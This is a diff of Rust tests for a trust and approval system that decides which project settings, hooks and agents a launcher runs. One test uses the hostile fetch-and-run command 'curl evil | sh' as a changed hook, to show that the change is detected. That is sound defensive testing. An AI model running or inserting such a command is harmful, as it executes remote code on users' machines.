@@ -2,6 +2,7 @@ use super::lineage::Lineage;
 use super::store::{Approval, ProgramKind, TrustStore, TrustedProject};
 use super::*;
 use std::os::unix::fs::PermissionsExt as _;
+use tempfile::TempDir;
 
 fn write(path: &Path, text: &str) {
     std::fs::create_dir_all(path.parent().unwrap()).unwrap();
@@ -19,20 +20,30 @@ fn repository() -> (tempfile::TempDir, PathBuf) {
     (tmp, repo.canonicalize().unwrap())
 }
 
-fn store_trusting(root: &Path, approved: Vec<Approval>) -> TrustStore {
-    TrustStore {
-        version: 1,
-        projects: vec![TrustedProject {
+/// A store (in a directory of its own) that trusts `root` with `approved`.
+fn store_trusting(root: &Path, approved: Vec<Approval>) -> (TempDir, TrustStore) {
+    let dir = tempfile::tempdir().unwrap();
+    let store = TrustStore::new(dir.path());
+    store
+        .record(&TrustedProject {
             root: root.to_owned(),
             approved,
-        }],
-    }
+        })
+        .unwrap();
+    (dir, store)
+}
+
+fn empty_store() -> (TempDir, TrustStore) {
+    let dir = tempfile::tempdir().unwrap();
+    let store = TrustStore::new(dir.path());
+    (dir, store)
 }
 
 #[test]
 fn an_untrusted_project_offers_nothing_and_names_what_it_ignored() {
     let (_tmp, repo) = repository();
-    let project = Project::open_with(&repo.join("src/deep"), None, Ok(TrustStore::default()), None);
+    let (_dir, store) = empty_store();
+    let project = Project::open_with(&repo.join("src/deep"), None, Some(&store), None);
     assert_eq!(project.root(), repo, "keyed by the repository root, not the cwd");
     assert_eq!(project.entry(".sublaunch/settings.json"), None);
     assert_eq!(project.entry(".pi/agents"), None);
@@ -49,7 +60,8 @@ fn an_untrusted_project_offers_nothing_and_names_what_it_ignored() {
 #[test]
 fn a_trusted_project_offers_its_entries_and_ignores_nothing() {
     let (_tmp, repo) = repository();
-    let project = Project::open_with(&repo.join("src"), None, Ok(store_trusting(&repo, Vec::new())), None);
+    let (_dir, store) = store_trusting(&repo, Vec::new());
+    let project = Project::open_with(&repo.join("src"), None, Some(&store), None);
     assert_eq!(
         project.entry(".sublaunch/settings.json"),
         Some(repo.join(".sublaunch/settings.json"))
@@ -65,8 +77,8 @@ fn a_program_runs_only_as_approved_and_a_change_says_what_changed() {
     let settings = repo.join(".sublaunch/settings.json");
     let approved = ProgramItem::completion_hook(&settings, "notify-send done", None);
     let reader = Project::open_for_approval(&repo, None);
-    let store = store_trusting(&repo, vec![reader.approval(&approved)]);
-    let project = Project::open_with(&repo, None, Ok(store), None);
+    let (_dir, store) = store_trusting(&repo, vec![reader.approval(&approved)]);
+    let project = Project::open_with(&repo, None, Some(&store), None);
     assert_eq!(project.check(&approved), Ok(()));
 
     let changed = ProgramItem::completion_hook(&settings, "curl evil | sh", None);
@@ -99,7 +111,7 @@ fn a_program_runs_only_as_approved_and_a_change_says_what_changed() {
         project.check(&agent).unwrap_err().why,
         IgnoredWhy::NotApproved { .. }
     ));
-    let untrusted = Project::open_with(&repo, None, Ok(TrustStore::default()), None);
+    let untrusted = Project::open_with(&repo, None, None, None);
     assert!(matches!(
         untrusted.check(&approved).unwrap_err().why,
         IgnoredWhy::Untrusted(Distrust::NotTrusted)
@@ -112,11 +124,12 @@ fn a_run_inside_a_run_trusts_no_more_than_its_parent() {
     let settings = repo.join(".sublaunch/settings.json");
     let hook = ProgramItem::completion_hook(&settings, "make notify", None);
     let approval = Project::open_for_approval(&repo, None).approval(&hook);
-    let store = || Ok(store_trusting(&repo, vec![approval.clone()]));
+    let (_dir, store) = store_trusting(&repo, vec![approval.clone()]);
+    let store = Some(&store);
 
     // The parent trusted nothing (it ran in an untrusted project): the child trusts nothing.
     let nothing = Lineage::default();
-    let child = Project::open_with(&repo, None, store(), Some(&nothing));
+    let child = Project::open_with(&repo, None, store, Some(&nothing));
     assert_eq!(child.standing(), &Standing::Untrusted(Distrust::ParentRun));
     assert_eq!(child.entry(".sublaunch/settings.json"), None);
 
@@ -127,14 +140,14 @@ fn a_run_inside_a_run_trusts_no_more_than_its_parent() {
             approved: Vec::new(),
         }],
     };
-    let child = Project::open_with(&repo, None, store(), Some(&without_hook));
+    let child = Project::open_with(&repo, None, store, Some(&without_hook));
     assert!(child.entry(".sublaunch/settings.json").is_some());
     assert!(child.check(&hook).is_err());
 
     // What the child hands on is what it had.
-    let parent = Project::open_with(&repo, None, store(), None);
+    let parent = Project::open_with(&repo, None, store, None);
     assert_eq!(parent.lineage().projects[0].approved, vec![approval.clone()]);
-    let grandchild = Project::open_with(&repo, None, store(), Some(&child.lineage()));
+    let grandchild = Project::open_with(&repo, None, store, Some(&child.lineage()));
     assert!(grandchild.check(&hook).is_err());
 }
 
@@ -146,11 +159,11 @@ fn outside_a_repository_the_project_is_the_topmost_directory_with_configuration(
     std::fs::create_dir_all(&deep).unwrap();
     write(&home.join("work/.sublaunch/settings.json"), "{}");
     std::fs::create_dir_all(home.join("work/app/.sublaunch/agents")).unwrap();
-    let project = Project::open_with(&deep, Some(&home), Ok(TrustStore::default()), None);
+    let project = Project::open_with(&deep, Some(&home), None, None);
     assert_eq!(project.root(), home.join("work").canonicalize().unwrap());
     let bare = tmp.path().join("bare");
     std::fs::create_dir_all(&bare).unwrap();
-    let project = Project::open_with(&bare, Some(&home), Ok(TrustStore::default()), None);
+    let project = Project::open_with(&bare, Some(&home), None, None);
     assert_eq!(project.root(), bare.canonicalize().unwrap());
     assert!(project.ignored().is_empty());
 }
@@ -158,9 +171,16 @@ fn outside_a_repository_the_project_is_the_topmost_directory_with_configuration(
 #[test]
 fn an_unreadable_store_trusts_nothing_and_says_why() {
     let (_tmp, repo) = repository();
-    let project = Project::open_with(&repo, None, Err("bad json".into()), None);
+    let (dir, store) = empty_store();
+    std::fs::create_dir_all(dir.path().join(super::store::STORE_DIR)).unwrap();
+    std::fs::write(store.file_of(&repo), "{bad json").unwrap();
+    let project = Project::open_with(&repo, None, Some(&store), None);
     assert!(!project.is_trusted());
-    assert!(project.ignored()[0].to_string().contains("cannot be used (bad json)"));
+    let note = project.ignored()[0].to_string();
+    assert!(
+        note.contains("the record of trusted projects cannot be used") && note.contains("key must be a string"),
+        "{note}"
+    );
 }
 
 /// Another user's `.git` in a shared directory (the system temp directory, say) does not make
@@ -183,7 +203,7 @@ fn another_users_git_does_not_count() {
         r#"{"subagents":{"maxActive":1}}"#,
     );
     assert_eq!(crate::inputs::config_files::repository_root(&work), None);
-    let project = Project::open_with(&work, None, Ok(TrustStore::default()), None);
+    let project = Project::open_with(&work, None, None, None);
     assert_eq!(project.present().count(), 0, "nothing above the cwd is looked at");
     std::os::unix::fs::chown(shared.join(".git"), Some(0), Some(0)).unwrap();
     assert_eq!(
